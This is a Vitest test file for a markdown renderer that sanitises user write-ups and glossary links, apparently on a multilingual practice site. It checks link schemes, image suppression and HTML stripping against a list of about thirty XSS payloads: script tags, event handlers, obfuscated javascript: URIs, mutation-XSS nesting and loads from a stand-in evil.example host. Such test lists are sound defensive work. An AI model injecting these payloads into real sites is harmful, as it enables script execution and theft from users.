import { describe, expect, it } from "vitest";
import { renderMarkdown } from "../app/utils/markdown.server";

describe("renderMarkdown", () => {
  it("keeps the structure a write-up needs", () => {
    const html = renderMarkdown("# Title\n\n**bold** _em_ ~~gone~~\n\n- one\n- two\n\n> quote\n\n`code`\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    expect(html).toContain("<h2>Title</h2>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<em>em</em>");
    expect(html).toContain("<del>gone</del>");
    expect(html).toContain("<li>one</li>");
    expect(html).toContain("<blockquote>");
    expect(html).toContain("<code>code</code>");
    expect(html).toContain("<table>");
  });

  it("gives links a safe rel and only safe schemes", () => {
    expect(renderMarkdown("[site](https://example.org)")).toBe('<p><a href="https://example.org" rel="noopener noreferrer nofollow">site</a></p>\n');
    expect(renderMarkdown("[rel](/practices/x)")).toContain('href="/practices/x"');
    expect(renderMarkdown("[mail](mailto:a@example.org)")).toContain('href="mailto:a@example.org"');
    for (const bad of ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example/x"]) {
      const html = renderMarkdown(`[x](${bad})`);
      expect(html, bad).not.toMatch(/href="(javascript|data|vbscript|\/\/)/i);
    }
  });

  it("shows an image's description instead of loading it", () => {
    expect(renderMarkdown("![a training room](https://tracker.example/x.png)")).toBe("<p>a training room</p>\n");
  });

  it("lets no raw HTML, image, handler or style through", () => {
    const attacks = [
      "<script>alert(1)</script>",
      '<img src="https://tracker.example/x.png" onerror="alert(1)">',
      "![remote](https://tracker.example/x.png)",
      '<a href="#" onclick="alert(1)">x</a>',
      '<div style="position:fixed">x</div>',
      "<iframe src=https://evil.example></iframe>",
      '<svg onload="alert(1)"></svg>',
    ];
    for (const attack of attacks) {
      const html = renderMarkdown(attack);
      expect(html, attack).not.toMatch(/<(script|img|iframe|svg|div|style)\b/i);
      expect(html, attack).not.toMatch(/<[^>]*\s(on\w+|src|style)=/i);
    }
  });

  it("renders no executable content from a list of XSS payloads", () => {
    const payloads = [
      "<script>alert(1)</script>",
      "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
      "<img src=x onerror=alert(1)>",
      "<body onload=alert(1)>",
      '<a href="javascript:alert(1)">x</a>',
      "[x](javascript:alert(1))",
      "[x](JAVASCRIPT:alert(1))",
      "[x](java\tscript:alert(1))",
      "[x](&#106;avascript:alert(1))",
      "[x](&#x6A;&#x61;&#x76;&#x61;script:alert(1))",
      "[x](javascript&#58;alert(1))",
      "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
      "[x](vbscript:msgbox(1))",
      "[x]( javascript:alert(1))",
      "[x](<javascript:alert(1)>)",
      "<javascript:alert(1)>",
      "[x][ref]\n\n[ref]: javascript:alert(1)",
      "![x](javascript:alert(1))",
      "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
      "<svg><script>alert(1)</script></svg>",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      "**<img src=x onerror=alert(1)>**",
      "`<script>` is shown as code, <b onclick=alert(1)>not run</b>",
      "> <a href=javascript:alert(1)>quote</a>",
      "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
      "<details open ontoggle=alert(1)>",
      "<style>body{background:url(//evil.example)}</style>",
      "<form action=//evil.example><button>go</button></form>",
      "<meta http-equiv=refresh content='0;url=//evil.example'>",
      "<<script>script>alert(1)<</script>/script>",
      "<a href='//evil.example'>protocol-relative</a>",
      "[x](//evil.example)",
      "&lt;script&gt;alert(1)&lt;/script&gt;",
    ];
    for (const payload of payloads) {
      const html = renderMarkdown(payload);
      // Tags that exist in the output are only from the allow-list…
      for (const [, tag] of html.matchAll(/<\/?([a-z0-9]+)/gi)) {
        expect(
          ["h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "blockquote", "ul", "ol", "li", "strong", "em", "del", "code", "pre", "a", "table", "thead", "tbody", "tr", "th", "td"],
          payload,
        ).toContain(tag!.toLowerCase());
      }
      // …with no handler, style or source attribute, and links only to safe places.
      expect(html, payload).not.toMatch(/<[^>]+\s(on[a-z]+|style|src|srcdoc|action|formaction)\s*=/i);
      for (const [, href] of html.matchAll(/<a\s[^>]*href="([^"]*)"/g)) {
        expect(href, payload).toMatch(/^(https?:|mailto:|\/(?!\/)|#)/);
      }
    }
  });
});

describe("[[term]]: a link to the glossary", () => {
  const link = (term: string) => `<a class="glossary-link" href="/glossary/term/${encodeURIComponent(term)}" rel="noopener noreferrer nofollow">`;

  it("links a term in any script to the concept's resolver", () => {
    expect(renderMarkdown("We say [[persons in prostitution]] here.")).toBe(`<p>We say ${link("persons in prostitution")}persons in prostitution</a> here.</p>\n`);
    expect(renderMarkdown("नेपालमा [[यौनकर्मी]] होइन")).toContain(`${link("यौनकर्मी")}यौनकर्मी</a>`);
    expect(renderMarkdown("[[Биеэ үнэлэгч]]")).toContain(link("Биеэ үнэлэгч"));
  });

  it("escapes what it names and leaves code, empty and bracketed text alone", () => {
    expect(renderMarkdown("[[<b>x</b>]]")).toContain("&lt;b&gt;x&lt;/b&gt;</a>");
    expect(renderMarkdown('[[x" onclick="y]]')).not.toMatch(/<a[^>]* onclick=/);
    expect(renderMarkdown("`[[code]]`")).toBe("<p><code>[[code]]</code></p>\n");
    expect(renderMarkdown("[[ ]] and [[a]b]]")).toBe("<p>[[ ]] and [[a]b]]</p>\n");
  });

  it("keeps the class for the glossary's links only", () => {
    expect(renderMarkdown('<a class="glossary-link" href="/x">fake</a>')).not.toContain("<a ");
    expect(renderMarkdown('[real](/x "t") and <span class="glossary-link">x</span>')).not.toMatch(/<[a-z]+ [^>]*class=/);
  });
});
